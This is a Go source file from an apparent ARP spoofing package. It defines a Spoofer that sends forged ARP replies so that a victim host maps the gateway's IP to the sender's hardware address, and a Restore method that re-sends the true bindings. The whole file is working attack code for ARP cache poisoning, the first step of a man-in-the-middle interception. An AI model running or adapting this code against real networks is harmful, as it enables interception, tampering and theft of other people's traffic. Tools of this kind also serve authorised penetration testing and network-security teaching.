package arpspoof

import (
	"errors"
	"fmt"
	"net"
	"time"
)

// A Spoofer corrupts a victim's ARP table by transmitting forged replies
// through a Device.  Spoofer performs no waiting; every method transmits
// synchronously and returns.
type Spoofer struct {
	// Notify, if non-nil, receives an Event for each frame successfully
	// transmitted.
	Notify EventFunc
}

// Spoof sends two forged ARP replies to the host at targetMAC: one claiming
// that gatewayIP resolves to dev's own hardware address, then one claiming
// that targetIP does.  Both frames carry the target's hardware address as
// their link destination, so a single call corrupts only the target's table.
// Deceiving the gateway as well takes a second call with the target and
// gateway arguments swapped.
//
// The second frame is attempted even if the first transmit fails; failures
// are joined into the returned error.
func (s *Spoofer) Spoof(dev Device, targetIP net.IP, targetMAC net.HardwareAddr, gatewayIP net.IP, gatewayMAC net.HardwareAddr) error {
	own := dev.HardwareAddr()

	var errs []error
	for _, spoofed := range []net.IP{gatewayIP, targetIP} {
		if err := sendReply(dev, spoofed, own, targetIP, targetMAC); err != nil {
			errs = append(errs, fmt.Errorf("spoofing %s to %s: %w", spoofed, targetIP, err))
			continue
		}
		s.notify(Event{Time: time.Now(), Type: EventFrameForged, IP: spoofed, HardwareAddr: own})
	}

	return errors.Join(errs...)
}

// Restore re-asserts the true address bindings after a poisoning run: it
// tells the target the gateway's real hardware address, and the gateway the
// target's.  Both frames are attempted regardless of individual failures.
func (s *Spoofer) Restore(dev Device, targetIP net.IP, targetMAC net.HardwareAddr, gatewayIP net.IP, gatewayMAC net.HardwareAddr) error {
	var errs []error

	if err := sendReply(dev, gatewayIP, gatewayMAC, targetIP, targetMAC); err != nil {
		errs = append(errs, fmt.Errorf("restoring %s at %s: %w", gatewayIP, targetIP, err))
	} else {
		s.notify(Event{Time: time.Now(), Type: EventBindingRestored, IP: gatewayIP, HardwareAddr: gatewayMAC})
	}

	if err := sendReply(dev, targetIP, targetMAC, gatewayIP, gatewayMAC); err != nil {
		errs = append(errs, fmt.Errorf("restoring %s at %s: %w", targetIP, gatewayIP, err))
	} else {
		s.notify(Event{Time: time.Now(), Type: EventBindingRestored, IP: targetIP, HardwareAddr: targetMAC})
	}

	return errors.Join(errs...)
}

// sendReply builds and transmits one ARP reply asserting that senderIP is at
// senderMAC, link-addressed to the host at dstMAC.
func sendReply(dev Device, senderIP net.IP, senderMAC net.HardwareAddr, dstIP net.IP, dstMAC net.HardwareAddr) error {
	p, err := NewPacket(OperationReply, senderMAC, senderIP, dstMAC, dstIP)
	if err != nil {
		return err
	}

	frame, err := marshalFrame(p, dstMAC)
	if err != nil {
		return err
	}

	return dev.Send(frame)
}

func (s *Spoofer) notify(e Event) {
	if s.Notify != nil {
		s.Notify(e)
	}
}
